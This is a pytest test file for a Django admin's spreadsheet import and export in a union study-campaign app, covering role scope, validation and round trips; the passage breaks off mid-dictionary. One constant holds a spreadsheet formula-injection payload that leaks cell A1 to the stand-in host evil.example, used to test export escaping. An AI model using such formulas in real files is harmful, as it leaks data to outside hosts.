"""Import and export in the admin, driven through the admin's own views with the test client.

Exports are parsed back (csv, openpyxl) and compared with what each role may see; imports go
through the library's two steps (the preview posts the file, the confirmation posts the stored
file's name) and every refusal is checked in the database as well as on the page. Messages of
this feature are asserted in English or Chinese (`said`), as the Chinese arrives with the
catalogue; messages that are already in the catalogue are asserted in Chinese.
"""

from __future__ import annotations

import csv
import datetime
import html
import io
import os
import re
from dataclasses import dataclass

import openpyxl
import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from campaign.choices import District, OrganisationKind, ReflectionStatus, SessionFormat
from campaign.exchange.escaping import FORMULA_GUARD
from campaign.exchange.readers import MAX_IMPORT_BYTES, MAX_IMPORT_ROWS
from campaign.exchange.resources import (
    OrganisationResource,
    ReflectionResource,
    StudySessionResource,
)
from campaign.models import Organisation, StudySession
from documents.models import LearningPoint
from tests.factories import OrganisationFactory, ReflectionFactory, StudySessionFactory

RESOURCES = {
    "studysession": StudySessionResource,
    "reflection": ReflectionResource,
    "organisation": OrganisationResource,
}
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'


# --- Helpers ----------------------------------------------------------------------------------


def said(text: str, english: str, chinese: str) -> bool:
    """Whether `text` carries a message of this feature, in English (before the catalogue has
    its Chinese) or in Chinese."""
    return english in text or chinese in text


def page(response) -> str:
    return html.unescape(response.content.decode())


def column(model: str, field: str) -> str:
    """A column's name as the admin names it (the language of the tests is Chinese)."""
    return RESOURCES[model]().fields[field].column_name


def format_index(title: str) -> str:
    titles = [f().get_title() for f in settings.IMPORT_EXPORT_FORMATS]
    return str(titles.index(title))


def points(*numbers: int) -> list[LearningPoint]:
    return list(LearningPoint.objects.filter(number__in=numbers).order_by("number"))


def short_names(*numbers: int) -> str:
    return "、".join(point.short_name for point in points(*numbers))


def export(client, model: str, file_format: str = "csv", query: str = "", extra=None):
    """POST the admin's export form (every column ticked) and parse the file: a list of dicts."""
    resource = RESOURCES[model]
    prefix = resource.__name__.lower()
    data = {"format": format_index(file_format), "resource": "0"}
    data.update({f"{prefix}_{name}": "on" for name in resource().get_export_order()})
    data.update(extra or {})
    response = client.post(reverse(f"admin:campaign_{model}_export") + query, data)
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")
    return parse(response.content, file_format), response.content


def parse(content: bytes, file_format: str) -> list[dict]:
    if file_format == "csv":
        assert content.startswith(b"\xef\xbb\xbf"), "a CSV for Excel starts with a BOM"
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    headers, *body = rows
    return [dict(zip(headers, row, strict=True)) for row in body]


def csv_file(rows: list[list]) -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    return buffer.getvalue().encode("utf-8")


def xlsx_file(rows: list[list]) -> bytes:
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def upload(client, model: str, content: bytes, name: str = "data.csv", file_format: str = "csv"):
    """Step one: the file is read, checked and tried (a dry run)."""
    return client.post(
        reverse(f"admin:campaign_{model}_import"),
        {
            "resource": "0",
            "format": format_index(file_format),
            "import_file": SimpleUploadedFile(name, content),
        },
    )


def confirm(client, model: str, preview):
    """Step two: the confirmation the preview's form posts."""
    form = preview.context["confirm_form"]
    fields = ("import_file_name", "original_file_name", "format", "resource")
    return client.post(
        reverse(f"admin:campaign_{model}_process_import"),
        {name: form.initial[name] for name in fields},
    )


def import_file(client, model: str, content: bytes, name="data.csv", file_format="csv"):
    preview = upload(client, model, content, name, file_format)
    assert preview.status_code == 200
    assert preview.context.get("confirm_form") is not None, bad_rows(preview) or page(preview)
    return preview, confirm(client, model, preview)


def bad_rows(response) -> dict[int, str]:
    """The rows the preview refuses: {row in the file: the text of its errors}."""
    cells = re.findall(
        r'<td class="row-number">(\d+)</td>\s*<td class="errors">(.*?)</td>',
        response.content.decode(),
        re.S,
    )
    return {int(n): html.unescape(re.sub(r"<[^>]+>", " ", errors)) for n, errors in cells}


def file_errors(response) -> str:
    """The errors of the file field (a file refused as a whole before any row is read)."""
    form = response.context["form"]
    return " ".join(form.errors.get("import_file", []))


def session_header() -> list[str]:
    return [
        column("studysession", name)
        for name in (
            "id",
            "organisation",
            "held_on",
            "title",
            "session_format",
            "points",
            "host",
            "venue",
            "participants",
            "party_members",
            "absentees",
            "summary",
        )
    ]


def session_row(code="HP-GH-01", held_on=None, title="学习李斌精神", **overrides) -> list:
    values = {
        "id": "",
        "organisation": code,
        "held_on": held_on or (timezone.localdate() - datetime.timedelta(days=2)).isoformat(),
        "title": title,
        "session_format": "集中学习",
        "points": short_names(1, 3),
        "host": "王书记",
        "venue": "职工之家",
        "participants": "20",
        "party_members": "8",
        "absentees": "",
        "summary": "学习《决定》全文。",
        **overrides,
    }
    return list(values.values())


@dataclass
class Snapshot:
    """What an import must leave alone: rows, history and every field value."""

    sessions: list
    history: int
    organisations: list

    @classmethod
    def take(cls) -> Snapshot:
        return cls(
            sessions=[
                (values, sorted(s.points.values_list("pk", flat=True)))
                for s in StudySession.objects.order_by("pk")
                for values in [StudySession.objects.filter(pk=s.pk).values().get()]
            ],
            history=StudySession.history.count(),
            organisations=list(Organisation.objects.order_by("pk").values()),
        )


@pytest.fixture
def sessions(tree):
    """Two sessions in each organisation of the tree below the city level."""
    made = {}
    for name in ("huangpu_body", "unit", "team", "sibling", "xuhui_body", "other"):
        organisation = getattr(tree, name)
        made[name] = [
            StudySessionFactory(
                organisation=organisation,
                title=f"{organisation.name}的学习活动{i}",
                points=points(1, 2),
            )
            for i in (1, 2)
        ]
    return made


# --- The changelist: buttons and the date drill-down -----------------------------------------


def test_session_changelist_has_import_export_buttons_and_the_calendar(client, tree):
    client.force_login(tree.district_admin)
    response = client.get(reverse("admin:campaign_studysession_changelist"))
    text = page(response)
    assert response.status_code == 200
    assert 'class="import_link"' in text
    assert 'class="export_link"' in text
    # The campaign's own drill-down (a calendar from the decision's date), not Django's.
    assert f"held_on__year={timezone.localdate().year}" in text
    assert "held_on__year=2019" in text


def test_organiser_sees_export_but_not_import(client, tree):
    client.force_login(tree.organiser)
    text = page(client.get(reverse("admin:campaign_studysession_changelist")))
    assert 'class="export_link"' in text
    assert 'class="import_link"' not in text
    assert client.get(reverse("admin:campaign_studysession_import")).status_code == 403
    assert client.get(reverse("admin:campaign_organisation_import")).status_code == 403


def test_organiser_cannot_post_an_import(client, tree):
    client.force_login(tree.organiser)
    before = StudySession.objects.count()
    response = upload(client, "studysession", csv_file([session_header(), session_row()]))
    assert response.status_code == 403
    assert StudySession.objects.count() == before


def test_reflection_changelist_offers_export_only_and_keeps_the_calendar(client, tree):
    client.force_login(tree.district_admin)
    text = page(client.get(reverse("admin:campaign_reflection_changelist")))
    assert 'class="export_link"' in text
    assert 'class="import_link"' not in text
    assert "created_at__year=2019" in text


def test_reader_cannot_export(client, tree):
    client.force_login(tree.reader)
    response = client.get(reverse("admin:campaign_studysession_export"))
    assert response.status_code == 302  # to the sign-in page: readers are not staff
    assert "/export/" not in response["Location"].split("?")[0]


@pytest.mark.parametrize("role", ["campaign_admin", "district_admin", "organiser"])
def test_export_permission_by_role(client, tree, role):
    client.force_login(getattr(tree, role))
    for model in RESOURCES:
        assert client.get(reverse(f"admin:campaign_{model}_export")).status_code == 200


# --- Export: scope ----------------------------------------------------------------------------

SCOPE = {
    "campaign_admin": {"huangpu_body", "unit", "team", "sibling", "xuhui_body", "other"},
    "district_admin": {"huangpu_body", "unit", "team", "sibling"},
    "organiser": {"unit", "team"},
    "outsider": {"other"},
}


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
@pytest.mark.parametrize("role", sorted(SCOPE))
def test_session_export_holds_exactly_the_sessions_in_scope(
    client, tree, sessions, role, file_format
):
    client.force_login(getattr(tree, role))
    rows, _ = export(client, "studysession", file_format)
    expected = {s.title for name in SCOPE[role] for s in sessions[name]}
    assert sorted(row[column("studysession", "title")] for row in rows) == sorted(expected)


def test_organiser_exports_own_reflections_and_organisations_only(client, tree):
    for name in ("unit", "team", "sibling", "other"):
        ReflectionFactory(organisation=getattr(tree, name), title=f"{name}的心得")
    client.force_login(tree.organiser)
    rows, _ = export(client, "reflection", "xlsx")
    assert {row[column("reflection", "title")] for row in rows} == {"unit的心得", "team的心得"}
    rows, _ = export(client, "organisation", "csv")
    assert {row[column("organisation", "code")] for row in rows} == {"HP-GH-01", "HP-GH-01-1"}


def test_district_admin_exports_all_of_their_district_and_nothing_else(client, tree, sessions):
    client.force_login(tree.district_admin)
    rows, _ = export(client, "organisation", "xlsx")
    assert {row[column("organisation", "code")] for row in rows} == {
        "HP-GH",
        "HP-GH-01",
        "HP-GH-01-1",
        "HP-GH-02",
    }
    rows, _ = export(client, "studysession", "csv")
    assert {row[column("studysession", "district")] for row in rows} == {"黄浦"}


def test_a_filter_in_the_query_string_cannot_widen_the_export(client, tree, sessions):
    client.force_login(tree.district_admin)
    rows, _ = export(client, "studysession", query=f"?organisation__district={District.XUHUI}")
    assert rows == []


def test_filters_of_the_changelist_narrow_the_export(client, tree, sessions):
    client.force_login(tree.district_admin)
    rows, _ = export(client, "studysession", query=f"?q={tree.sibling.code}")
    assert {row[column("studysession", "organisation")] for row in rows} == {"HP-GH-02"}


def test_posted_ids_outside_scope_are_not_exported(client, tree, sessions):
    client.force_login(tree.organiser)
    own = sessions["unit"][0]
    foreign = [s.pk for name in ("sibling", "other") for s in sessions[name]]
    response = client.post(
        reverse("admin:campaign_studysession_export"),
        {
            "format": format_index("csv"),
            "resource": "0",
            "export_items": [own.pk, *foreign],
            **{f"studysessionresource_{n}": "on" for n in ("id", "title")},
        },
    )
    text = response.content.decode("utf-8-sig")
    for name in ("sibling", "other"):
        for session in sessions[name]:
            assert session.title not in text
    # The ids of the user's own sessions narrow the export as the library intends.
    response = client.post(
        reverse("admin:campaign_studysession_export"),
        {
            "format": format_index("csv"),
            "resource": "0",
            "export_items": [own.pk],
            **{f"studysessionresource_{n}": "on" for n in ("id", "title")},
        },
    )
    rows = parse(response.content, "csv")
    assert [row[column("studysession", "title")] for row in rows] == [own.title]


def test_a_resource_without_a_user_exports_nothing(tree, sessions):
    assert len(StudySessionResource().export()) == 0
    assert len(StudySessionResource().export(queryset=StudySession.objects.all())) == 0
    assert len(StudySessionResource(user=tree.organiser).export()) == 4


# --- Export: content --------------------------------------------------------------------------


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_session_export_has_chinese_headers_and_labels(client, tree, file_format):
    session = StudySessionFactory(
        organisation=tree.unit,
        title="专题学习",
        format=SessionFormat.PARTY_LECTURE,
        points=points(1, 3),
        host="李老师",
        venue="会议室",
        participants=30,
        party_members=12,
        absentees="张三（出差）",
        summary="学习《决定》。",
        recorded_by=tree.organiser,
    )
    client.force_login(tree.district_admin)
    rows, _ = export(client, "studysession", file_format)
    (row,) = rows
    assert list(row)[4:14] == [
        "活动日期",
        "标题",
        "形式",
        "学习要点",
        "主持人或主讲人",
        "地点",
        "参加人数",
        "其中党员人数",
        "缺席人员及原因",
        "活动内容摘要或纪要",
    ]
    assert said(" ".join(list(row)[:4]), "unit code", "单位代码")
    assert said(" ".join(list(row)[:4]), "unit name", "单位名称")
    assert "所属区" in row
    held_on = row["活动日期"]
    if file_format == "xlsx":
        assert held_on.date() == session.held_on  # a real date cell
        assert row["参加人数"] == 30  # a number, not text
    else:
        assert held_on == session.held_on.isoformat()
        assert row["参加人数"] == "30"
    assert row["所属区"] == "黄浦"
    assert row["形式"] == "专题党课"
    assert row["学习要点"] == short_names(1, 3)
    assert "、" in row["学习要点"]
    assert row[column("studysession", "organisation")] == "HP-GH-01"
    assert row[column("studysession", "organisation_name")] == "黄浦单位一"
    assert str(row[column("studysession", "id")]) == str(session.pk)
    assert row["录入人"] == "organiser"


def test_reflection_export_has_chinese_headers_and_labels(client, tree):
    ReflectionFactory(
        organisation=tree.unit,
        point=points(2)[0],
        author_position="班组长",
        status=ReflectionStatus.APPROVED,
        public_consent=True,
    )
    client.force_login(tree.campaign_admin)
    (row,), _ = export(client, "reflection", "xlsx")
    for header in ("作者", "作者职务", "状态", "学习要点", "标题", "内容", "所属区", "录入时间"):
        assert header in row
    assert row["作者"] == "张三"
    assert row["作者职务"] == "班组长"
    assert row["状态"] == "已通过"
    assert row["学习要点"] == points(2)[0].short_name
    assert row["作者同意公开展示"] == "是"


def test_organisation_export_has_chinese_labels(client, tree):
    client.force_login(tree.campaign_admin)
    rows, _ = export(client, "organisation", "csv")
    by_code = {row[column("organisation", "code")]: row for row in rows}
    assert by_code["HP-GH"]["所属区"] == "黄浦"
    assert by_code["HP-GH"]["类别"] == "区局（产业）工会"
    assert by_code["HP-GH"][column("organisation", "parent")] == "SH-ZGH"
    assert by_code["SH-ZGH"]["所属区"] == "市级"
    assert by_code["SH-ZGH"][column("organisation", "parent")] == ""
    # Parents come before their units, so the file imports in its own order.
    codes = list(by_code)
    assert codes.index("HP-GH") < codes.index("HP-GH-01") < codes.index("HP-GH-01-1")


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_cells_that_start_like_formulas_are_escaped(client, tree, file_format):
    for title in (FORMULA, "+1+2", "-3", "@SUM(A1)"):
        StudySessionFactory(organisation=tree.unit, title=title, absentees="=1+1")
    client.force_login(tree.organiser)
    rows, content = export(client, "studysession", file_format)
    titles = {row[column("studysession", "title")] for row in rows}
    assert titles == {FORMULA_GUARD + t for t in (FORMULA, "+1+2", "-3", "@SUM(A1)")}
    assert {row["缺席人员及原因"] for row in rows} == {"'=1+1"}
    if file_format == "xlsx":
        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        kinds = {cell.data_type for row in sheet.iter_rows(min_row=2) for cell in row}
        assert "f" not in kinds  # no cell is a formula
    else:
        assert b"\n=" not in content and b",=" not in content


def test_export_query_count_does_not_grow_with_rows(client, tree):
    client.force_login(tree.district_admin)

    def queries_for_export() -> int:
        with CaptureQueriesContext(connection) as queries:
            export(client, "studysession", "xlsx")
        return len(queries)

    for _ in range(5):
        StudySessionFactory(organisation=tree.unit, points=points(1, 2), recorded_by=tree.organiser)
    few = queries_for_export()
    for _ in range(25):
        StudySessionFactory(organisation=tree.team, points=points(3, 4), recorded_by=tree.organiser)
    many = queries_for_export()
    assert StudySession.objects.count() == 30
    assert many == few


def test_reflection_and_organisation_exports_make_no_per_row_queries(client, tree):
    client.force_login(tree.campaign_admin)
    for model, make in (
        ("reflection", lambda: ReflectionFactory(organisation=tree.unit)),
        ("organisation", lambda: OrganisationFactory(parent=tree.sibling)),
    ):
        make()
        with CaptureQueriesContext(connection) as few:
            export(client, model)
        for _ in range(10):
            make()
        with CaptureQueriesContext(connection) as many:
            export(client, model)
        assert len(many) == len(few), model


# --- Import: a good file ----------------------------------------------------------------------


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_district_admin_imports_sessions_after_a_preview(client, tree, file_format):
    client.force_login(tree.district_admin)
    rows = [
        session_header(),
        session_row("HP-GH-01", title="第一次学习"),
        session_row("HP-GH-02", title="第二次学习", points="2，4", session_format="座谈交流"),
    ]
    content = csv_file(rows) if file_format == "csv" else xlsx_file(rows)
    before = StudySession.objects.count()

    preview = upload(client, "studysession", content, f"sessions.{file_format}", file_format)
    assert preview.status_code == 200
    assert "第一次学习" in page(preview) and "第二次学习" in page(preview)
    assert preview.context["confirm_form"] is not None
    assert StudySession.objects.count() == before  # the preview writes nothing
    # A new row's ID is left empty in the preview: the dry run's ID is not the one it will get.
    assert [row.diff[0] for row in preview.context["result"].rows] == ["", ""]

    done = confirm(client, "studysession", preview)
    assert done.status_code == 302
    assert StudySession.objects.count() == before + 2
    first = StudySession.objects.get(title="第一次学习")
    second = StudySession.objects.get(title="第二次学习")
    assert first.organisation == tree.unit
    assert first.format == SessionFormat.GROUP_STUDY
    assert list(first.points.order_by("number")) == points(1, 3)
    assert (first.participants, first.party_members) == (20, 8)
    assert first.host == "王书记"
    assert second.organisation == tree.sibling
    assert second.format == SessionFormat.DISCUSSION
    assert list(second.points.order_by("number")) == points(2, 4)
    # Every write records who: the session and its history.
    assert first.recorded_by == second.recorded_by == tree.district_admin
    assert {h.history_user for h in first.history.all()} == {tree.district_admin}


def test_a_confirmed_import_says_what_it_did(client, tree):
    client.force_login(tree.district_admin)
    _, done = import_file(client, "studysession", csv_file([session_header(), session_row()]))
    messages = [str(m) for m in done.wsgi_request._messages]
    assert any("新增1条记录" in m for m in messages), messages


def test_excel_dates_and_numbers_are_read_from_xlsx(client, tree):
    client.force_login(tree.district_admin)
    held_on = timezone.localdate() - datetime.timedelta(days=5)
    header = session_header()
    row = session_row(title="Excel 日期")
    row[header.index(column("studysession", "held_on"))] = held_on  # a date cell
    row[header.index(column("studysession", "participants"))] = 15  # a number cell
    row[header.index(column("studysession", "party_members"))] = 5.0
    row[header.index(column("studysession", "points"))] = 2  # a lone number
    import_file(client, "studysession", xlsx_file([header, row]), "s.xlsx", "xlsx")
    session = StudySession.objects.get(title="Excel 日期")
    assert session.held_on == held_on
    assert (session.participants, session.party_members) == (15, 5)
    assert list(session.points.all()) == points(2)


def test_an_excel_date_serial_is_read_as_a_date(client, tree):
    client.force_login(tree.district_admin)
    header = session_header()
    row = session_row(title="序列号日期")
    row[header.index(column("studysession", "held_on"))] = 43558  # 2019-04-03 in Excel
    import_file(client, "studysession", xlsx_file([header, row]), "s.xlsx", "xlsx")
    assert StudySession.objects.get(title="序列号日期").held_on == datetime.date(2019, 4, 3)


def test_a_gbk_csv_from_excel_on_chinese_windows_imports(client, tree):
    client.force_login(tree.district_admin)
    text = io.StringIO()
    csv.writer(text).writerows([session_header(), session_row(title="GBK 文件")])
    import_file(client, "studysession", text.getvalue().encode("gb18030"))
    assert StudySession.objects.filter(title="GBK 文件").exists()


def test_an_english_file_imports_in_the_chinese_interface(client, tree):
    from django.utils import translation

    with translation.override("en"):
        header = [
            StudySessionResource().fields[name].column_name
            for name in (
                "organisation",
                "held_on",
                "title",
                "session_format",
                "points",
                "participants",
            )
        ]
    assert "date held" in header
    row = [
        "HP-GH-01",
        (timezone.localdate() - datetime.timedelta(days=1)).isoformat(),
        "English file",
        "Group study",
        "1",
        "9",
    ]
    client.force_login(tree.district_admin)
    import_file(client, "studysession", csv_file([header, row]))
    assert StudySession.objects.get(title="English file").format == SessionFormat.GROUP_STUDY


def test_an_imported_formula_guard_is_taken_off(client, tree):
    client.force_login(tree.district_admin)
    import_file(client, "studysession", csv_file([session_header(), session_row(title="'=1+1")]))
    assert StudySession.objects.filter(title="=1+1").exists()


# --- Import: bad rows, nothing imported -------------------------------------------------------

FUTURE = (timezone.localdate() + datetime.timedelta(days=3)).isoformat()
BAD_ROWS = {
    "unknown unit": (
        {"code": "NO-SUCH-UNIT"},
        ("No unit has the code “NO-SUCH-UNIT”", "没有代码为“NO-SUCH-UNIT”的单位"),
    ),
    "unit out of reach": (
        {"code": "XH-GH-01"},
        ("is outside your reach", "不在您的管理范围内"),
    ),
    "bad date": (
        {"held_on": "2024-13-45"},
        ("“2024-13-45” is not a date", "“2024-13-45”不是有效日期"),
    ),
    "future date": ({"held_on": FUTURE}, ("日期不能晚于今天。", "日期不能晚于今天。")),
    "unknown point": (
        {"points": "政治品格、爱岗如家"},
        ("There is no learning point “爱岗如家”", "没有学习要点“爱岗如家”"),
    ),
    "negative participants": (
        {"participants": "-3"},
        ("The number cannot be negative.", "不能为负数。"),
    ),
    "not a number": ({"party_members": "十个"}, ("“十个” is not a whole number", "“十个”不是整数")),
    "no participants": ({"participants": "0"}, ("确保该值大于或等于1", "确保该值大于或等于1")),
    "more party members than participants": (
        {"participants": "5", "party_members": "9"},
        ("党员人数（9）不能多于参加人数（5）", "党员人数（9）不能多于参加人数（5）"),
    ),
    "no points": ({"points": ""}, ("请至少选择一个学习要点。", "请至少选择一个学习要点。")),
    "unknown format": (
        {"session_format": "喝茶"},
        ("“喝茶” is not one of the choices", "“喝茶”不是可选的值"),
    ),
    "empty title": ({"title": ""}, ("This cell cannot be empty.", "此项不能为空。")),
    "unknown session id": (
        {"id": "999999"},
        ("No study session with the ID 999999 is within your reach", "编号为 999999 的学习活动"),
    ),
}


@pytest.mark.parametrize("case", sorted(BAD_ROWS))
def test_a_bad_row_is_reported_with_its_row_and_nothing_is_imported(client, tree, case):
    overrides, (english, chinese) = dict(BAD_ROWS[case][0]), BAD_ROWS[case][1]
    code = overrides.pop("code", "HP-GH-01")
    rows = [
        session_header(),
        session_row(title="好的一行"),
        session_row(title="好的第二行"),
        session_row(code, **{"title": "有问题的一行", **overrides}),
    ]
    client.force_login(tree.district_admin)
    before = Snapshot.take()

    response = upload(client, "studysession", csv_file(rows))

    assert response.status_code == 200
    assert response.context.get("confirm_form") is None  # no way to confirm
    errors = bad_rows(response)
    assert list(errors) == [4], errors  # the header is row 1 of the file
    assert said(errors[4], english, chinese), errors[4]
    assert said(page(response), "Nothing has been imported.", "未导入任何数据")
    assert Snapshot.take() == before


def test_every_bad_row_is_listed(client, tree):
    rows = [
        session_header(),
        session_row(held_on="昨天"),
        session_row(),
        session_row("XH-GH-01"),
    ]
    client.force_login(tree.district_admin)
    errors = bad_rows(upload(client, "studysession", csv_file(rows)))
    assert sorted(errors) == [2, 4]
    assert column("studysession", "held_on") in errors[2]  # the column is named


def test_a_missing_required_column_refuses_the_file(client, tree):
    header = session_header()
    index = header.index("活动日期")
    rows = [[cell for i, cell in enumerate(row) if i != index] for row in (header, session_row())]
    client.force_login(tree.district_admin)
    before = Snapshot.take()
    response = upload(client, "studysession", csv_file(rows))
    text = page(response)
    assert response.context.get("confirm_form") is None
    assert said(text, "The file has no column “活动日期”", "文件缺少“活动日期”列")
    assert "Traceback" not in text
    assert Snapshot.take() == before


def test_an_import_confirmed_after_the_data_changed_is_rolled_back_whole(client, tree):
    """Between preview and confirmation the second row's unit leaves the district: neither row
    is imported, and the user is told."""
    rows = [session_header(), session_row(title="第一行"), session_row("HP-GH-02", title="第二行")]
    client.force_login(tree.district_admin)
    preview = upload(client, "studysession", csv_file(rows))
    assert preview.context["confirm_form"] is not None
    Organisation.objects.filter(pk=tree.sibling.pk).update(district=District.XUHUI)
    before = Snapshot.take()

    done = confirm(client, "studysession", preview)

    assert done.status_code == 302
    assert done["Location"] == reverse("admin:campaign_studysession_import")
    assert Snapshot.take() == before
    messages = [str(m) for m in done.wsgi_request._messages]
    assert any(said(m, "Nothing was imported", "未导入任何数据") for m in messages), messages


# --- Import: files refused as a whole ---------------------------------------------------------


def test_random_bytes_named_xlsx_are_refused(client, tree):
    client.force_login(tree.district_admin)
    before = Snapshot.take()
    response = upload(client, "studysession", os.urandom(4096), "sessions.xlsx", "xlsx")
    assert response.status_code == 200
    assert response.context.get("confirm_form") is None
    assert said(file_errors(response), "is not an XLSX spreadsheet", "不是 XLSX 电子表格")
    assert Snapshot.take() == before


def test_an_xlsx_read_as_csv_is_refused_with_a_message(client, tree):
    client.force_login(tree.district_admin)
    content = xlsx_file([session_header(), session_row()])
    response = upload(client, "studysession", content, "sessions.csv", "csv")
    assert response.context.get("confirm_form") is None
    assert file_errors(response)
    assert StudySession.objects.count() == 0


def test_an_empty_file_is_refused(client, tree):
    client.force_login(tree.district_admin)
    response = upload(client, "studysession", b"", "empty.csv")
    assert response.context.get("confirm_form") is None
    assert "所提交的是空文件。" in file_errors(response)
    assert StudySession.objects.count() == 0


def test_a_file_with_headers_only_is_refused(client, tree):
    client.force_login(tree.district_admin)
    response = upload(client, "studysession", csv_file([session_header()]))
    assert response.context.get("confirm_form") is None
    assert file_errors(response)
    assert StudySession.objects.count() == 0


def test_a_file_over_the_size_limit_is_refused(client, tree):
    client.force_login(tree.district_admin)
    line = ",".join(session_row()).encode() + b"\n"
    content = csv_file([session_header()]) + line * (MAX_IMPORT_BYTES // len(line) + 1)
    assert len(content) > MAX_IMPORT_BYTES
    response = upload(client, "studysession", content, "huge.csv")
    assert response.context.get("confirm_form") is None
    assert said(file_errors(response), "an import may be at most 5 MB", "不能超过 5 MB")
    assert StudySession.objects.count() == 0


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_a_file_over_the_row_limit_is_refused(client, tree, file_format):
    client.force_login(tree.district_admin)
    rows = [["HP-GH-01", "2024-01-01", "t", "集中学习", "1", "1"]] * (MAX_IMPORT_ROWS + 1)
    header = [
        column("studysession", n)
        for n in ("organisation", "held_on", "title", "session_format", "points", "participants")
    ]
    content = csv_file([header, *rows]) if file_format == "csv" else xlsx_file([header, *rows])
    assert len(content) < MAX_IMPORT_BYTES
    response = upload(client, "studysession", content, f"many.{file_format}", file_format)
    assert response.context.get("confirm_form") is None
    assert said(
        file_errors(response), f"more than {MAX_IMPORT_ROWS} rows", f"超过 {MAX_IMPORT_ROWS} 行"
    )
    assert StudySession.objects.count() == 0


# --- Round trip -------------------------------------------------------------------------------


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_an_exported_session_file_imports_unchanged(client, tree, sessions, file_format):
    StudySessionFactory(
        organisation=tree.unit,
        title=FORMULA,
        absentees="张三：病假\r\n李四：出差",
        summary="- 学习原文\n- 交流体会",
        points=points(1, 2, 3, 4),
    )
    client.force_login(tree.district_admin)
    _, content = export(client, "studysession", file_format)
    before = Snapshot.take()

    preview, done = import_file(client, "studysession", content, f"s.{file_format}", file_format)

    result = preview.context["result"]
    assert result.totals["skip"] == 9 and result.totals["new"] == 0
    assert result.totals["update"] == 0
    assert done.status_code == 302
    assert Snapshot.take() == before  # same rows, same values, no new history


def test_an_edited_export_updates_the_changed_session_only(client, tree, sessions):
    client.force_login(tree.district_admin)
    rows, _ = export(client, "studysession", "csv")
    target = sessions["unit"][0]
    header = list(rows[0])
    edited = [header]
    for row in rows:
        if str(row[column("studysession", "id")]) == str(target.pk):
            row["参加人数"] = "44"
        edited.append(list(row.values()))
    history = StudySession.history.count()

    preview, _ = import_file(client, "studysession", csv_file(edited))

    assert preview.context["result"].totals["update"] == 1
    target.refresh_from_db()
    assert target.participants == 44
    assert target.recorded_by is None  # an update does not claim the session
    assert StudySession.history.count() == history + 1
    assert StudySession.history.latest("history_date").history_user == tree.district_admin


def test_an_id_out_of_reach_is_refused_not_imported_as_a_new_session(client, tree, sessions):
    client.force_login(tree.district_admin)
    foreign = sessions["other"][0]
    rows = [session_header(), session_row(id=str(foreign.pk), title="改别人的")]
    before = Snapshot.take()
    errors = bad_rows(upload(client, "studysession", csv_file(rows)))
    assert list(errors) == [2]
    assert Snapshot.take() == before


@pytest.mark.parametrize("role", ["campaign_admin", "district_admin"])
def test_an_exported_organisation_file_imports_unchanged(client, tree, role):
    client.force_login(getattr(tree, role))
    _, content = export(client, "organisation", "xlsx")
    before = Snapshot.take()
    preview, _ = import_file(client, "organisation", content, "o.xlsx", "xlsx")
    assert preview.context["result"].totals["new"] == 0
    assert preview.context["result"].totals["update"] == 0
    assert Snapshot.take() == before


# --- Organisations ----------------------------------------------------------------------------


def organisation_rows(*rows) -> bytes:
    header = [
        column("organisation", n)
        for n in ("code", "name", "kind", "district", "parent", "is_active")
    ]
    return csv_file([header, *rows])


def test_district_admin_imports_units_under_their_body(client, tree):
    client.force_login(tree.district_admin)
    content = organisation_rows(
        ["HP-GH-03", "黄浦单位三", "基层工会", "黄浦", "HP-GH", "是"],
        ["HP-GH-03-1", "黄浦单位三班组", "其他", "黄浦区", "HP-GH-03", ""],
    )
    import_file(client, "organisation", content)
    unit = Organisation.objects.get(code="HP-GH-03")
    team = Organisation.objects.get(code="HP-GH-03-1")
    assert (unit.parent, unit.kind, unit.district) == (
        tree.huangpu_body,
        OrganisationKind.UNION_BRANCH,
        District.HUANGPU,
    )
    assert team.parent == unit and team.path.startswith(unit.path) and team.depth == 4
    assert team.is_active


def test_campaign_admin_updates_a_unit_by_its_code(client, tree):
    client.force_login(tree.campaign_admin)
    import_file(
        client,
        "organisation",
        organisation_rows(["HP-GH-02", "黄浦单位二（更名）", "基层工会", "黄浦", "HP-GH", "否"]),
    )
    tree.sibling.refresh_from_db()
    assert tree.sibling.name == "黄浦单位二（更名）"
    assert not tree.sibling.is_active
    assert Organisation.objects.count() == 7


BAD_ORGANISATIONS = {
    "parent out of reach": (
        ["HP-GH-09", "新单位", "基层工会", "徐汇", "XH-GH", "是"],
        ("is outside your reach", "不在您的管理范围内"),
    ),
    "unknown parent": (
        ["HP-GH-09", "新单位", "基层工会", "黄浦", "NOPE", "是"],
        ("No unit has the code “NOPE”", "没有代码为“NOPE”的单位"),
    ),
    "top level": (
        ["HP-GH-09", "新单位", "基层工会", "黄浦", "", "是"],
        (
            "Only a campaign admin can add a top-level organisation",
            "只有活动管理员可以新增顶级单位",
        ),
    ),
    "district of another parent": (
        ["HP-GH-09", "新单位", "基层工会", "徐汇", "HP-GH", "是"],
        ("单位所属区必须与上级单位一致（黄浦）", "单位所属区必须与上级单位一致（黄浦）"),
    ),
    "moving own body": (
        ["HP-GH", "黄浦区局（产业）工会", "区局（产业）工会", "黄浦", "XH-GH", "是"],
        ("Only a campaign admin can change the parent unit or district", "只有活动管理员可以修改"),
    ),
    "bad code": (
        ["黄浦 单位", "新单位", "基层工会", "黄浦", "HP-GH", "是"],
        ("只能使用字母、数字", "只能使用字母、数字"),
    ),
    "unknown district": (
        ["HP-GH-09", "新单位", "基层工会", "火星", "HP-GH", "是"],
        ("“火星” is not one of the choices", "“火星”不是可选的值"),
    ),
    "code of a unit out of reach": (
        ["XH-GH-01", "改名", "基层工会", "黄浦", "HP-GH", "是"],
